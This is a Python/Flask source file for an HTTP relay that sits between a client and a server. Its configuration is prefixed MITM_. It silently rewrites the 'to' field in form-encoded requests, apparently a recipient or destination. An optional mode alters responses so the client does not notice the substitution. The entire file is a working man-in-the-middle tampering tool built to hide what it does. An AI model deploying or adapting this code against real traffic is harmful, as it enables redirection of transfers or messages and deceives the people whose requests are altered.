#!/usr/bin/env python3
"""
httprelay.py – sit between a client and the real server, relay every request
and hand the server's answer back verbatim. With a replacement value the
"to" field of form-encoded request bodies is rewritten on the way through.
Usage:  python3 httprelay.py  [origin]  [replacement]  [bind-ip]  [port]
"""

import logging
import os
import sys
from urllib.parse import parse_qsl, quote, quote_plus, unquote_plus, urlsplit

import requests
import urllib3
from urllib3.util import SKIP_HEADER
from flask import Flask, Response, request

DEF_ORIGIN      = os.environ.get("MITM_ORIGIN", "http://127.0.0.1:8080")
DEF_REPLACEMENT = os.environ.get("MITM_REPLACEMENT") or None
DEF_FIELD       = os.environ.get("MITM_FIELD", "to")
DEF_ADDR        = os.environ.get("MITM_BIND", "0.0.0.0")
HTTP_PORT       = int(os.environ.get("MITM_HTTP_PORT", "8000"))
ORIGIN_TIMEOUT  = float(os.environ.get("MITM_ORIGIN_TIMEOUT", "10"))
DEF_RESTORE     = os.environ.get("MITM_RESTORE_RESPONSE", "") not in ("", "0")

FORM_TYPE = "application/x-www-form-urlencoded"

# headers that only describe a single hop and are re-derived for the next one
HOP_BY_HOP = frozenset({
    "connection", "keep-alive", "proxy-authenticate", "proxy-authorization",
    "proxy-connection", "te", "trailer", "transfer-encoding", "upgrade",
})
REFRAMED = HOP_BY_HOP | {"content-length"}
# urllib3 fills these in unless told to skip them
AUTO_HEADERS = ("User-Agent", "Accept-Encoding")

logger = logging.getLogger(__name__)


class RelayError(Exception):
    """The origin could not be reached or sent back garbage."""

    def __init__(self, origin: str, cause: Exception):
        super().__init__(f"relay to {origin} failed: {cause}")
        self.origin = origin
        self.cause = cause


class RelayedResponse(Response):
    # the origin decides the content type, never us
    default_mimetype = None


def request_target(req) -> str:
    """Path + query of `req` as the client sent it."""
    raw = req.environ.get("RAW_URI") or req.environ.get("REQUEST_URI")
    if not raw:
        qs = req.query_string.decode("latin-1")
        return quote(req.script_root + req.path) + ("?" + qs if qs else "")
    if not raw.startswith("/"):                 # absolute-form, proxy style
        parts = urlsplit(raw)
        raw = (parts.path or "/") + ("?" + parts.query if parts.query else "")
    return raw


def _skipped(headers) -> set:
    # Connection may name extra per-hop headers
    named = {t.strip().lower() for t in headers.get("Connection", "").split(",") if t.strip()}
    return REFRAMED | named


def _request_headers(req) -> dict:
    skip = _skipped(req.headers) | {"host"}
    out = {}
    for key, value in req.headers.items():
        if key.lower() in skip:
            continue
        out[key] = f"{out[key]}, {value}" if key in out else value
    lowered = {k.lower() for k in out}
    for key in AUTO_HEADERS:
        if key.lower() not in lowered:
            out[key] = SKIP_HEADER
    return out


def _response_headers(raw_headers) -> list:
    skip = _skipped(raw_headers)
    return [(k, v) for k, v in raw_headers.iteritems() if k.lower() not in skip]


def passthrough_request(req, origin: str, body: bytes = None,
                        timeout: float = None) -> Response:
    """Forward `req` to `origin` unmodified and return the origin's response.

    Method, request target, end-to-end headers and body reach the origin as
    received (unless `body` overrides the payload). Status, headers and the
    raw body bytes come back untouched, with one Content-Length matching
    what is actually delivered. Raises RelayError if the round-trip fails.
    """
    if body is None:
        body = req.get_data()
    url = origin.rstrip("/") + request_target(req)
    headers = _request_headers(req)
    logger.debug("relay %s %s (%d body bytes)", req.method, url, len(body))

    try:
        with requests.Session() as session:
            session.headers.clear()
            upstream = session.request(req.method, url, headers=headers,
                                       data=body or None, stream=True,
                                       allow_redirects=False, timeout=timeout)
            with upstream:
                content = upstream.raw.read(decode_content=False)
                status, reason = upstream.status_code, upstream.reason
                response_headers = _response_headers(upstream.raw.headers)
    except (requests.RequestException, urllib3.exceptions.HTTPError) as e:
        raise RelayError(origin, e) from e

    return RelayedResponse(content, status=f"{status} {reason}" if reason else status,
                           headers=response_headers)


def rewrite_form_field(body: bytes, field: str, replacement: str) -> bytes:
    """Replace every value of `field` in a form-encoded body.

    Other pairs, empty segments and `=`-less names are kept byte for byte.
    A body that does not decode as UTF-8 (raw or percent-escaped), or that
    has no `field`, comes back unchanged.
    """
    try:
        text = body.decode("utf-8")
        parse_qsl(text, keep_blank_values=True, errors="strict")
    except ValueError:
        return body
    if not text:
        return body

    pairs, hit = [], False
    for pair in text.split("&"):
        if unquote_plus(pair.split("=", 1)[0]) == field:
            pair = f"{quote_plus(field)}={quote_plus(replacement)}"
            hit = True
        pairs.append(pair)
    return "&".join(pairs).encode("utf-8") if hit else body


def form_values(body: bytes, field: str) -> list:
    try:
        pairs = parse_qsl(body.decode("utf-8"), keep_blank_values=True, errors="strict")
    except ValueError:
        return []
    return [v for k, v in pairs if k == field]


def intercept_and_relay_request(req, origin: str, replacement: str,
                                field: str = DEF_FIELD,
                                timeout: float = None,
                                restore_response: bool = False) -> Response:
    """Like passthrough_request, but rewrite `field` to `replacement` first.

    The response is returned as the origin sent it. With
    `restore_response`, occurrences of `replacement` in an unencoded
    response body are swapped back to the client's original value so the
    client does not notice the rewrite.
    """
    body = req.get_data()
    originals = []
    if req.mimetype in ("", FORM_TYPE):
        rewritten = rewrite_form_field(body, field, replacement)
        if rewritten != body:
            originals = form_values(body, field)
            logger.info("rewrote %s=%s in %s %s", field, replacement,
                        req.method, request_target(req))
        body = rewritten

    resp = passthrough_request(req, origin, body=body, timeout=timeout)
    if restore_response and originals and replacement \
            and "Content-Encoding" not in resp.headers:
        # set_data recomputes Content-Length
        resp.set_data(resp.get_data().replace(replacement.encode("utf-8"),
                                              originals[0].encode("utf-8")))
    return resp


def create_app(origin: str = DEF_ORIGIN, replacement: str = DEF_REPLACEMENT,
               field: str = DEF_FIELD, timeout: float = ORIGIN_TIMEOUT,
               restore_response: bool = DEF_RESTORE) -> Flask:
    app = Flask(__name__)

    # runs ahead of routing errors, so every path and any method token is relayed
    @app.before_request
    def relay():
        logger.info("%s  %s  -> %s", request.method, request_target(request), origin)
        if replacement is None:
            return passthrough_request(request, origin, timeout=timeout)
        return intercept_and_relay_request(request, origin, replacement, field,
                                           timeout=timeout,
                                           restore_response=restore_response)

    @app.errorhandler(RelayError)
    def bad_gateway(e):
        logger.warning("%s", e)
        return f"bad gateway: {e}\n", 502

    return app


def main(argv=None):
    argv = sys.argv[1:] if argv is None else argv
    origin      = argv[0] if len(argv) > 0 else DEF_ORIGIN
    replacement = argv[1] if len(argv) > 1 else DEF_REPLACEMENT
    bind_addr   = argv[2] if len(argv) > 2 else DEF_ADDR
    port        = int(argv[3]) if len(argv) > 3 else HTTP_PORT

    logging.basicConfig(level=logging.INFO, format="%(asctime)s  %(message)s",
                        datefmt="%H:%M:%S")
    mode = f"rewriting {DEF_FIELD}={replacement}" if replacement else "passthrough"
    logger.info("[*] Relaying %s:%d -> %s (%s)", bind_addr, port, origin, mode)
    create_app(origin, replacement).run(host=bind_addr, port=port, debug=False)


if __name__ == "__main__":
    main()
